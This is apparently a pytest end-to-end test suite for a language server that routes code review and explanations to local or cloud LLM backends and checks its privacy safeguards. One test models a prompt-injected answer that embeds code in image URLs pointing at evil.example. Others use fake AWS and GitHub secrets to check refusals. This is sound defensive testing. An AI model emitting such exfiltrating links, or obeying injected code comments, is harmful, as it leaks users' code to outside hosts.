"""Review and explain end to end: a real server over stdio, real HTTP fakes on loopback."""

from __future__ import annotations

import asyncio
import json
import time
from pathlib import Path
from typing import Any

import pytest
from lsprotocol import types
from pygls.exceptions import JsonRpcException

from tests.e2e.conftest import Session, closed_port_url, range_json
from tests.fakes.openai_fake import BlackHole, FakeOpenAI
from tests.support.markdown import active_parts

SOURCE = """\
import os


def divide(a, b):
    total = a / b
    return total


def greet(name):
    print("hello " + name)
"""


def review_answer(*findings: dict[str, Any]) -> str:
    return json.dumps({"findings": list(findings)})


def config_for(local_url: str, cloud_url: str | None = None, **local: Any) -> str:
    extra = "".join(f"{key} = {json.dumps(value)}\n" for key, value in local.items())
    text = f"""
        [backends.local]
        kind = "openai"
        url = "{local_url}"
        connect_timeout_s = 0.5
        {extra}
        [tasks.review]
        route = ["local:coder"{', "cloud:big-model"' if cloud_url else ""}]
        [tasks.explain]
        route = ["local:coder"{', "cloud:big-model"' if cloud_url else ""}]
        """
    if cloud_url:
        text += f"""
        [backends.cloud]
        kind = "openai"
        url = "{cloud_url}"
        locality = "cloud"
        """
    return "\n".join(line.strip() for line in text.splitlines())


async def test_review_selection_publishes_diagnostics_from_local(start_session: Any) -> None:
    with FakeOpenAI() as local:
        local.latency_s = 0.4  # long enough for progress to show (quick answers send none)
        local.answer = review_answer(
            {"line": 5, "severity": "error", "message": "b may be zero", "suggestion": "x"}
        )
        async with start_session(config_for(local.url)) as s:
            s: Session
            uri = s.open("calc.py", SOURCE)
            result = await s.command("localroute.review", {"uri": uri, "range": range_json(3, 5)})

            assert result["backend"] == "local"
            assert result["model"] == "coder"
            assert result["locality"] == "local"
            assert result["cached"] is False
            assert result["findings"] == 1
            await s.wait_for(lambda: len(s.diagnostics(uri)) == 1)
            diagnostic = s.diagnostics(uri)[0]
            assert diagnostic.range.start.line == 4
            assert diagnostic.source == "localroute"
            assert diagnostic.severity == types.DiagnosticSeverity.Error
            assert diagnostic.message == "b may be zero"
            assert diagnostic.data["backend"] == "local"
            assert diagnostic.data["suggestion"] == "x"
            # The model saw the numbered selection and the schema.
            body = local.chat_requests[-1].json
            assert body["model"] == "coder"
            assert "5 |     total = a / b" in body["messages"][-1]["content"]
            # Work-done progress named the backend (it starts after 0.2 s).
            messages = [
                getattr(v, "message", "") or ""
                for reports in s.client.progress_reports.values()
                for v in reports
            ]
            assert any("coder @ local" in m for m in messages)

            # The same request again is answered from the cache.
            again = await s.command("localroute.review", {"uri": uri, "range": range_json(3, 5)})
            assert again["cached"] is True
            assert len(local.chat_requests) == 1


async def test_explain_answers_and_hover_shows_it(start_session: Any) -> None:
    with FakeOpenAI() as local:
        local.answer = "Divides **a** by **b** and returns the quotient."
        async with start_session(config_for(local.url)) as s:
            uri = s.open("calc.py", SOURCE)
            result = await s.command("localroute.explain", {"uri": uri, "range": range_json(3, 5)})
            assert result["backend"] == "local"
            assert result["markdown"].startswith("Divides **a** by **b**")
            hover = await s.hover(uri, 4)
            assert hover is not None
            assert isinstance(hover.contents, types.MarkupContent)
            assert "Divides **a** by **b**" in hover.contents.value
            assert hover.contents.value.rstrip().splitlines()[-1].count("coder") == 1
            assert "local" in hover.contents.value.rstrip().splitlines()[-1]
            assert await s.hover(uri, 9) is None


async def test_an_explanation_cannot_make_the_editor_fetch_a_url(start_session: Any) -> None:
    """The model (told to by a comment in the code, say) writes the code into an image URL:
    the hover shows the image's text, and no renderer would load the URL."""
    with FakeOpenAI() as local:
        local.answer = (
            "It divides. ![status](https://evil.example/p.png?code=total%3Da%2Fb)\n"
            '<img src="https://evil.example/q.png">\n```python\nv = vec![a]\n```'
        )
        async with start_session(config_for(local.url)) as s:
            uri = s.open("calc.py", SOURCE)
            result = await s.command("localroute.explain", {"uri": uri, "range": range_json(3, 5)})
            hover = await s.hover(uri, 4)
            assert hover is not None and isinstance(hover.contents, types.MarkupContent)
            for shown in (result["markdown"], hover.contents.value):
                assert active_parts(shown) == [], shown
                assert "It divides." in shown and "v = vec![a]" in shown


async def test_local_down_falls_back_and_says_which_backend(start_session: Any) -> None:
    with FakeOpenAI() as cloud:
        cloud.answer = review_answer({"line": 5, "severity": "warning", "message": "zero?"})
        async with start_session(config_for(closed_port_url(), cloud.url)) as s:
            uri = s.open("calc.py", SOURCE)
            result = await s.command("localroute.review", {"uri": uri, "range": range_json(3, 5)})
            assert result["backend"] == "cloud"
            assert result["locality"] == "cloud"
            assert "local:coder" in result["reason"]
            await s.wait_for(lambda: len(s.diagnostics(uri)) == 1)
            assert s.diagnostics(uri)[0].data["backend"] == "cloud"
            assert len(cloud.chat_requests) == 1
            await s.wait_for(
                lambda: any(
                    "answered by big-model @ cloud" in m.message and "local:coder" in m.message
                    for m in s.client.messages
                )
            )
            # The code action titles now predict the fallback, without waiting.
            titles = await s.action_titles(uri, 3, 5)
            assert "Review selection — big-model @ cloud (cloud)" in titles


@pytest.mark.parametrize(
    ("name", "text", "reason"),
    [
        ("deploy/.env", "DATABASE_URL=postgres://db\n", "**/.env"),
        ("secrets/notes.py", "x = 1\n", "**/secrets/**"),
        (
            "settings.py",
            "DEBUG = False\nAWS_KEY = 'AKIA" + "Q3T7WX2LPZK5N8RV" + "'\n",
            "AWS access key id (line 2)",
        ),
    ],
)
async def test_private_code_is_refused_and_cloud_receives_nothing(
    start_session: Any, name: str, text: str, reason: str
) -> None:
    with FakeOpenAI() as cloud:
        async with start_session(config_for(closed_port_url(), cloud.url)) as s:
            uri = s.open(name, text)
            with pytest.raises(JsonRpcException) as failure:
                await s.command("localroute.review", {"uri": uri})
            assert failure.value.code == -32803
            message = failure.value.message
            assert "private" in message and reason in message
            assert "Nothing was sent" in message
            await s.wait_for(lambda: any(reason in m.message for m in s.client.messages))
            with pytest.raises(JsonRpcException):
                await s.command("localroute.explain", {"uri": uri})
            titles = await s.action_titles(uri, 0, 0)
            assert any(t.startswith("Review file — refused") for t in titles)
        assert cloud.requests == []
        if "AKIA" in text:
            assert "AKIA" not in message


async def test_cancel_mid_stream_closes_the_connection(start_session: Any) -> None:
    with FakeOpenAI() as local:
        local.answer = review_answer({"line": 5, "severity": "info", "message": "x" * 400})
        local.chunk_delay_s = 0.3
        async with start_session(config_for(local.url)) as s:
            uri = s.open("calc.py", SOURCE)
            pending, cancel = s.start_command("localroute.review", {"uri": uri})
            await asyncio.to_thread(local.stream_started.wait, 10)
            cancel()
            with pytest.raises(JsonRpcException) as cancelled:
                await asyncio.wait_for(pending, 5)
            assert cancelled.value.code == -32800
            await s.wait_for(lambda: local.disconnects == 1, timeout=5)
            # The server is still responsive afterwards.
            assert await s.hover(uri, 0) is None


async def test_progress_cancel_closes_the_connection(start_session: Any) -> None:
    with FakeOpenAI() as local:
        local.answer = "word " * 200
        local.chunk_delay_s = 0.3
        async with start_session(config_for(local.url)) as s:
            uri = s.open("calc.py", SOURCE)
            pending = asyncio.ensure_future(s.command("localroute.explain", {"uri": uri}))
            await asyncio.to_thread(local.stream_started.wait, 10)
            await s.wait_for(lambda: any(s.client.progress_reports.values()))
            token = next(t for t, reports in s.client.progress_reports.items() if reports)
            s.client.window_work_done_progress_cancel(
                types.WorkDoneProgressCancelParams(token=token)
            )
            with pytest.raises(JsonRpcException):
                await asyncio.wait_for(pending, 5)
            await s.wait_for(lambda: local.disconnects == 1, timeout=5)


async def test_edit_above_a_finding_while_review_runs_moves_it(start_session: Any) -> None:
    with FakeOpenAI() as local:
        local.answer = review_answer(
            {"line": 5, "severity": "warning", "message": "division by zero"},
            {"line": 10, "severity": "info", "message": "use an f-string"},
        )
        local.chunk_delay_s = 0.1  # the stream is still running when the edit arrives
        async with start_session(config_for(local.url)) as s:
            uri = s.open("calc.py", SOURCE)
            pending = asyncio.ensure_future(s.command("localroute.review", {"uri": uri}))
            await asyncio.to_thread(local.stream_started.wait, 10)
            s.insert(uri, 0, "# one\n# two\n")
            result = await pending
            assert result["findings"] == 2
            await s.wait_for(lambda: len(s.diagnostics(uri)) == 2)
            lines = sorted(d.range.start.line for d in s.diagnostics(uri))
            assert lines == [6, 11]

            # Afterwards: an edit above moves them again, an edit on a line drops its finding.
            s.insert(uri, 0, "# three\n")
            await s.wait_for(
                lambda: sorted(d.range.start.line for d in s.diagnostics(uri)) == [7, 12]
            )
            s.insert(uri, 7, "    # note\n    ")
            await s.wait_for(lambda: [d.range.start.line for d in s.diagnostics(uri)] == [13])


async def test_black_holed_local_costs_one_connect_timeout_then_nothing(
    start_session: Any,
) -> None:
    with BlackHole() as hole, FakeOpenAI() as cloud:
        cloud.answer = review_answer()
        async with start_session(config_for(hole.url, cloud.url)) as s:
            uri = s.open("calc.py", SOURCE)
            began = time.monotonic()
            first = await s.command("localroute.review", {"uri": uri})
            first_s = time.monotonic() - began
            assert first["backend"] == "cloud"
            assert "connect" in first["reason"]
            began = time.monotonic()
            second = await s.command("localroute.review", {"uri": uri, "refresh": True})
            second_s = time.monotonic() - began
            assert second["backend"] == "cloud"
            assert "down" in second["reason"]
            # connect_timeout_s is 0.5: the first request pays it once (plus the fake's
            # answer and process noise); the second skips the dead host entirely.
            assert first_s < 0.5 + 1.5
            assert second_s < 0.5
            assert len(cloud.chat_requests) == 2


async def test_route_status_clear_and_bad_arguments(start_session: Any) -> None:
    with FakeOpenAI() as local:
        local.answer = review_answer({"line": 2, "severity": "hint", "message": "unused"})
        async with start_session(config_for(local.url)) as s:
            uri = s.open("calc.py", SOURCE)
            route = await s.command("localroute.route", {"uri": uri, "task": "review"})
            assert route["private"] is False
            assert route["candidates"][0]["backend"] == "local"
            assert local.chat_requests == []

            status = await s.command("localroute.status", {})
            (backend,) = status["backends"]
            assert backend["name"] == "local" and backend["up"] is True
            assert "coder" in backend["models"] or backend["models"]

            await s.command("localroute.review", {"uri": uri})
            await s.wait_for(lambda: len(s.diagnostics(uri)) == 1)
            await s.command("localroute.clear", {"uri": uri})
            await s.wait_for(lambda: s.diagnostics(uri) == [])

            for bad in ({}, {"uri": 5}, {"uri": uri, "range": {"start": {"line": -1}}}):
                with pytest.raises(JsonRpcException) as failure:
                    await s.command("localroute.review", bad)
                assert failure.value.code == -32602
            # Still alive.
            assert (await s.command("localroute.status", {}))["backends"]


async def test_bad_config_is_reported_and_server_keeps_running(start_session: Any) -> None:
    with FakeOpenAI() as local:
        config = config_for(local.url) + '\n[backends.local2]\nkind = "openai"\nurll = "x"\n'
        async with start_session(config) as s:
            await s.wait_for(lambda: any("urll" in m.message for m in s.client.messages))
            message = next(m.message for m in s.client.messages if "urll" in m.message)
            assert "config.toml" in message and "unknown key" in message
            # The whole file was left out: the defaults are in force, and the server answers.
            status = await s.command("localroute.status", {})
            assert [b["url"] for b in status["backends"]] == ["http://127.0.0.1:8080/v1"]
            assert local.requests == []


async def test_quick_fix_applies_the_suggestion(start_session: Any) -> None:
    with FakeOpenAI() as local:
        local.answer = review_answer(
            {
                "line": 5,
                "severity": "warning",
                "message": "b may be zero",
                "suggestion": "total = a / b if b else 0.0",
            }
        )
        async with start_session(config_for(local.url)) as s:
            uri = s.open("calc.py", SOURCE)
            await s.command("localroute.review", {"uri": uri, "range": range_json(3, 5)})
            await s.wait_for(lambda: len(s.diagnostics(uri)) == 1)
            diagnostic = s.diagnostics(uri)[0]
            result = await s.client.text_document_code_action_async(
                types.CodeActionParams(
                    text_document=types.TextDocumentIdentifier(uri=uri),
                    range=diagnostic.range,
                    context=types.CodeActionContext(diagnostics=[diagnostic]),
                )
            )
            fixes = [
                a
                for a in result or []
                if isinstance(a, types.CodeAction) and a.kind == types.CodeActionKind.QuickFix
            ]
            assert [f.title for f in fixes] == ["Apply suggestion: total = a / b if b else 0.0"]
            assert fixes[0].edit is not None and fixes[0].edit.changes is not None
            (edit,) = fixes[0].edit.changes[uri]
            assert edit.range.start.line == edit.range.end.line == 4
            assert edit.new_text == "    total = a / b if b else 0.0"


async def test_workspace_file_cannot_loosen_privacy(start_session: Any) -> None:
    with FakeOpenAI() as cloud:
        workspace_file = (
            "[privacy]\ndetect_secrets = false\n"
            '[backends.cloud]\nkind = "openai"\nurl = "http://127.0.0.1:1/v1"\n'
            'locality = "local"\n'
        )
        async with start_session(
            config_for(closed_port_url(), cloud.url),
            workspace_files={".localroute.toml": workspace_file},
        ) as s:
            await s.wait_for(lambda: any("ignored" in m.message for m in s.client.messages))
            uri = s.open(
                "deploy.py", "TOKEN = 'gh" + "p_" + "x7Kq2mP9vL4tR8nB3cW6yZ1dF5hJ0sA2eG4u" + "'\n"
            )
            with pytest.raises(JsonRpcException) as failure:
                await s.command("localroute.review", {"uri": uri})
            assert "GitHub token (line 1)" in failure.value.message
        assert cloud.requests == []


async def test_audit_log_records_requests_without_code_or_credentials(
    start_session: Any, tmp_path: Path
) -> None:
    secret = "AKIA" + "Q3T7WX2LPZK5N8RV"
    with FakeOpenAI() as cloud:
        cloud.answer = review_answer()
        async with start_session(config_for(closed_port_url(), cloud.url)) as s:
            ordinary = s.open("calc.py", SOURCE)
            private = s.open("keys.py", f"KEY = '{secret}'\n")
            await s.command("localroute.review", {"uri": ordinary})
            with pytest.raises(JsonRpcException):
                await s.command("localroute.review", {"uri": private})
    log = tmp_path / "home" / ".state" / "localroute" / "audit.jsonl"
    text = log.read_text()
    entries = [json.loads(line) for line in text.splitlines()]
    by_outcome = {(e["backend"], e["outcome"].split(":")[0]) for e in entries}
    assert ("cloud", "ok") in by_outcome
    assert (None, "refused") in by_outcome
    refused = next(e for e in entries if e["outcome"] == "refused")
    assert (
        refused["privacy"] == "private"
        and "AWS access key id (line 1)" in refused["privacy_reason"]
    )
    assert refused["bytes_sent"] == 0
    sent = next(e for e in entries if e["backend"] == "cloud")
    assert sent["bytes_sent"] > 0 and sent["locality"] == "cloud"
    assert secret not in text
    assert "a / b" not in text and "def divide" not in text
    assert len(cloud.chat_requests) == 1


async def test_a_quick_answer_sends_no_progress_but_a_client_token_gets_it_at_once(
    start_session: Any,
) -> None:
    with FakeOpenAI() as local:
        local.answer = review_answer()
        async with start_session(config_for(local.url)) as s:
            uri = s.open("calc.py", SOURCE)
            await s.command("localroute.review", {"uri": uri})  # warm: connection, caches
            s.client.progress_reports.clear()
            await s.command("localroute.review", {"uri": uri, "refresh": True})
            # Progress for a request that finishes at once would only cost round trips.
            assert s.client.progress_reports == {}

            # A token the client made itself (LSP's client-initiated progress) is used at once.
            s.client.progress_reports["client-token"] = []
            params = types.ExecuteCommandParams(
                command="localroute.review",
                arguments=[{"uri": uri, "refresh": True}],
                work_done_token="client-token",
            )
            await s.client.workspace_execute_command_async(params)
            kinds = [report.kind for report in s.client.progress_reports["client-token"]]
            assert kinds[0] == "begin" and kinds[-1] == "end"
